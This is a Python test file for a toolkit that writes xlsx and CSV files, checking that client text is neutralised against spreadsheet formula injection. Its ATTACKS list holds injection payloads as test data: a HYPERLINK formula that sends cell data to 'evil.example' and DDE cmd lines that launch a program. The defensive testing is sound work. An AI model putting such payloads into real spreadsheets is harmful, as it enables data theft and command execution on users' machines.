"""Safe spreadsheets (issue 16): every xlsx the toolkit writes holds client text as strings,
never a formula or a hyperlink; values starting with = + - @ tab CR are neutralised (OWASP);
the same for CSV; same input -> same bytes; what the toolkit reads back is what was written."""

from __future__ import annotations

import zipfile

import openpyxl
import pandas as pd
import pytest

from tests.conftest import TRANSACTIONS_COLUMNS, write_case
from tests.test_coding import sample_turns
from tests.test_crm_spec import LOYALTY, PROFIT, STAGES, make_case
from toolkit.coding import write_codes_table
from toolkit.coding.autocode import draft_codes
from toolkit.coding.sheet import read_coding_review, write_draft_sheet
from toolkit.core.config import load_case
from toolkit.core.xlsx import neutralise, unneutralise, write_csv, write_frames
from toolkit.data.load import load_case_data
from toolkit.data.readers import read_raw
from toolkit.data.step import write_data_quality_xlsx
from toolkit.double_funnel.crm_spec import crm_spec, write_crm_spec

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/phish",
    "mailto:someone@example.com",
]


def assert_safe_workbook(path, attacks=ATTACKS) -> int:
    """No formula cell, no hyperlink, no cell starting with a dangerous character; returns how
    many of ``attacks`` were found written (neutralised) as text."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert "<hyperlink" not in xml, name
        assert not any("externalLink" in n for n in z.namelist())
    wb = openpyxl.load_workbook(path)
    found = 0
    safe = {neutralise(a) for a in attacks}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (ws.title, cell.coordinate)
                    found += cell.value.replace("_x000D_", "\r") in safe  # the xlsx escape of CR
    return found


def test_neutralise_is_owasp_and_reversible():
    for a in ATTACKS:
        n = neutralise(a)
        assert unneutralise(n) == a
        if a[0] in "=+-@\t\r":
            assert n == "'" + a
        else:
            assert n == a
    assert neutralise("обычный текст") == "обычный текст" and unneutralise("'quoted") == "'quoted"


def test_data_quality_xlsx_is_safe_and_deterministic(tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    lines = ["Дата;Код клиента;Направление;Сумма"]
    lines += [f"0{1 + i}.02.2024;C{i};Косметология;100" for i in range(8)]
    lines += [f'01.03.2024;C9;Косметология;"{a}"'.replace("\r", "\\r") if a[0] == "\r" else
              f'01.03.2024;C9;Косметология;"{a.replace(chr(34), chr(34) * 2)}"' for a in ATTACKS]
    (raw / "v.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    write_case(tmp_path, {"transactions": {"path": "raw/v.csv", "columns": dict(TRANSACTIONS_COLUMNS)}})
    data = load_case_data(load_case(tmp_path))
    assert data.quality["transactions"].quarantined == {"bad_amount": len(ATTACKS)}
    write_data_quality_xlsx(data, tmp_path / "a.xlsx")
    write_data_quality_xlsx(data, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    assert assert_safe_workbook(tmp_path / "a.xlsx") >= len(ATTACKS) - 2  # tab / CR may be stripped by the CSV reader


def test_crm_spec_xlsx_is_safe(tmp_path):
    spec = crm_spec(make_case(), profit=PROFIT, loyalty=LOYALTY, loyalty_stages=STAGES)
    spec["touchpoints"] = [ATTACKS[i % len(ATTACKS)] for i in range(len(spec))]
    write_crm_spec(spec, tmp_path / "crm.xlsx")
    assert assert_safe_workbook(tmp_path / "crm.xlsx") == len(spec)
    # numbers stay numbers
    ws = openpyxl.load_workbook(tmp_path / "crm.xlsx").active
    assert any(isinstance(c.value, (int, float)) for row in ws.iter_rows(min_row=2) for c in row)


def test_coding_draft_is_safe_and_quotes_read_back_as_written(tmp_path):
    from tests.test_coding import CODEBOOK_YAML
    from toolkit.coding.codebook import read_codebook

    (tmp_path / "cb.yml").write_text(CODEBOOK_YAML, encoding="utf-8")
    codebook = read_codebook(tmp_path / "cb.yml")
    d = draft_codes(sample_turns(), codebook)
    d["quote"] = [("- " if i % 2 else "=") + q for i, q in enumerate(d["quote"])]
    path = write_draft_sheet(d, codebook, tmp_path / "draft.xlsx")
    assert_safe_workbook(path)
    back = read_coding_review(path, codebook)
    assert set(back["quote"]) <= set(d["quote"]) and back["quote"].str.startswith(("=", "- ")).all()


def test_codes_table_round_trip_through_the_loader(tmp_path):
    codes = pd.DataFrame({"respondent_id": ["R1", "R2"], "stage": ["deal", "deal"], "code_type": ["barrier"] * 2,
                          "code": ["price", "price"], "quote": ["=1+1 дорого", "-Дорого."]})
    path = write_codes_table(codes, tmp_path / "codes.xlsx")
    assert_safe_workbook(path, ["=1+1 дорого", "-Дорого."])
    assert read_raw(path).frame["quote"].tolist() == ["=1+1 дорого", "-Дорого."]


def test_write_frames_types_and_csv(tmp_path):
    frame = pd.DataFrame({"text": ATTACKS[:3], "n": [1, 2.5, None], "d": pd.to_datetime(["2024-01-01"] * 3),
                          "flag": [True, False, True]})
    write_frames(tmp_path / "f.xlsx", {"s": frame})
    assert assert_safe_workbook(tmp_path / "f.xlsx") == 3
    ws = openpyxl.load_workbook(tmp_path / "f.xlsx")["s"]
    assert ws["B2"].value == 1 and ws["B4"].value is None and ws["D2"].value is True
    assert ws["C2"].is_date
    write_csv(frame, tmp_path / "f.csv")
    text = (tmp_path / "f.csv").read_text(encoding="utf-8")
    assert "\n'=HYPERLINK" in text.replace('"', "") and "\n=" not in text and ",=" not in text


@pytest.mark.parametrize("value", ["=1+1", "+7 916 000", "-5", "@x"])
def test_dangerous_header_is_neutralised_too(tmp_path, value):
    write_frames(tmp_path / "h.xlsx", {"s": pd.DataFrame({value: [1]})})
    assert openpyxl.load_workbook(tmp_path / "h.xlsx")["s"]["A1"].value == "'" + value
